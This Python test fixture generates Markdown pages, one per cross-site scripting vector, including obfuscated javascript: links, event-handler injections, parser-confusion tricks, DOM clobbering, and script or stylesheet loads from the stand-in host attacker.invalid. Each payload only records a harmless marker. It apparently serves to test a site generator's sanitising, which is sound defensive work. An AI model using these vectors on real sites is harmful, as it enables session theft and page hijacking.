"""Attacks on the readers of a site, one a page: each tries to run a script that adds its name to `top.ran`.

`{P}` stands for that script, which has no spaces, quotes, pipes or angle brackets and so survives in every place.
"""


def _script(name: str) -> str:
    return f"top.ran=(top.ran??[]).concat(/{name}/.source)"


_BODIES = {
    "raw-script": "<script>{P}</script>",
    "raw-script-upper": "<SCRIPT>{P}</SCRIPT >",
    "raw-script-split": "<scr<script>ipt>{P}</scr</script>ipt>",
    "raw-script-in-words": "text <b><script>{P}</script></b> text",
    "raw-module": '<script type="module">{P}</script>',
    "raw-outside-script": '<script src="http://attacker.invalid/x.js"></script>',
    "picture-handler": '<img src="x-missing" onerror="{P}">',
    "picture-handler-bare": "<img/src=x-missing/onerror={P}>",
    "picture-handler-lines": '<img src="x-missing"\nonerror="{P}"\n>',
    "picture-outside": '<img src="http://attacker.invalid/x.png">',
    "svg-handler": '<svg onload="{P}"></svg>',
    "svg-script": "<svg><script>{P}</script></svg>",
    "svg-animate": '<svg><a><animate attributeName="href" values="javascript:{P}"/><text y="20">x</text></a></svg>',
    "details-handler": '<details open ontoggle="{P}"><summary>x</summary></details>',
    "video-handler": '<video><source onerror="{P}" src="x-missing"></video>',
    "focus-handler": '<input autofocus onfocus="{P}">',
    "animation-handler": '<style>@keyframes a {}</style><div style="animation:a 1s" onanimationstart="{P}">x</div>',
    "style-outside": '<p style="background:url(http://attacker.invalid/x.png)">x</p>',
    "body-handler": '<body onload="{P}">',
    "frame-source": '<iframe srcdoc="<script>{P}</script>"></iframe>',
    "frame-script": '<iframe src="javascript:{P}"></iframe>',
    "object-data": '<object data="data:text/html,<script>{P}</script>"></object>',
    "embedded-svg": "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{P}'/>\">",
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:{P}">',
    "style-sheet": '<link rel="stylesheet" href="http://attacker.invalid/x.css">',
    "early-connection": '<link rel="preconnect" href="http://attacker.invalid">',
    "base": '<base href="http://attacker.invalid/">\n\n![x](x-missing.png)',
    "form": '<form action="javascript:{P}"><button autofocus>send</button></form>',
    "link": "[click](javascript:{P})",
    "link-case": "[click](JaVaScRiPt:{P})",
    "link-space": "[click](< javascript:{P}>)",
    "link-entity": '<a href="&#106;avascript:{P}">click</a>',
    "link-tab": '<a href="java&#9;script:{P}">click</a>',
    "link-line": '<a href="java\nscript:{P}">click</a>',
    "link-control": '<a href="\x01javascript:{P}">click</a>',
    "link-defined": "[click][r]\n\n[r]: javascript:{P}",
    "link-angles": "<javascript:{P}>",
    "link-data": "[click](data:text/html,<script>{P}</script>)",
    "list-handler": 'A paragraph.\n{: onclick="{P}" onmouseover="{P}" }',
    "list-picture": '![x](x-missing.png){ onerror="{P}" }',
    "list-link": '[x](index.md){ href="javascript:{P}" }',
    "list-heading": '# Heading {: onfocus="{P}" tabindex=0 autofocus }',
    "list-id": '## Heading {#x"><img/src=x-missing/onerror={P}>}',
    "words-of-picture": '![x" onerror="{P}](x-missing.png)',
    "title-of-picture": "![x](x-missing.png 'a\" onerror=\"{P}')",
    "title-of-link": "[x](index.md 'a\" autofocus onfocus=\"{P}')",
    "address-of-picture": '![x](x-missing.png"onerror="{P})',
    "language-of-code": '```"><img/src=x-missing/onerror={P}>\ncode\n```',
    "note": 'text[^a"><img/src=x-missing/onerror={P}>]\n\n[^a"><img/src=x-missing/onerror={P}>]: note',
    "abbreviation": '*[AVN]: x" onmouseover="{P}\n\nAVN is common.',
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x-missing onerror={P}&gt;">',
    "no-script": '<noscript><p title="</noscript><img src=x-missing onerror={P}>"></noscript>',
    "template": '<template><script>{P}</script></template><style><a id="</style><img src=x-missing onerror={P}>">',
    "comment": "<!--><img src=x-missing onerror={P}>-->",
    "cdata": "<svg><![CDATA[><img src=x-missing onerror={P}>]]></svg>",
    "heading": "## Heading <img src=x-missing onerror={P}>",
    "code-in-heading": "## Heading `<img src=x-missing onerror={P}>`",
    "searched": "zqxword &lt;img src=x-missing onerror={P}&gt; and `<img src=x-missing onerror={P}>`",
    "cell": "| a |\n|---|\n| <img src=x-missing onerror={P}> |",
    "clobber": '<a id="__config">x</a><form name="body"><input name="getElementById"></form><img name="currentScript">',
}

_FRONT_MATTER = {
    "front-title": 'title: "zqxtitle <img src=x-missing onerror={P}>"',
    "front-description": "description: 'x\"><script>{P}</script>'",
    "front-tags": 'tags: ["<img src=x-missing onerror={P}>"]',
}


def hostile_pages(*, front_matter: str = "") -> dict[str, str]:
    """Markdown of each page by its name.

    Args:
        front_matter: Lines that every page has, without a title, which pages get where they attack by none.
    """
    pages = {}
    for name, body in _BODIES.items():
        pages[name] = (
            f"---\n{front_matter}title: T\n---\n\n# {name}\n\n{body.replace('{P}', _script(name))}\n\nAfter.\n"
        )
    for name, lines in _FRONT_MATTER.items():
        title = "" if lines.startswith("title:") else "title: T\n"
        pages[name] = f"---\n{front_matter}{title}{lines.replace('{P}', _script(name))}\n---\n\nbody\n"
    return pages
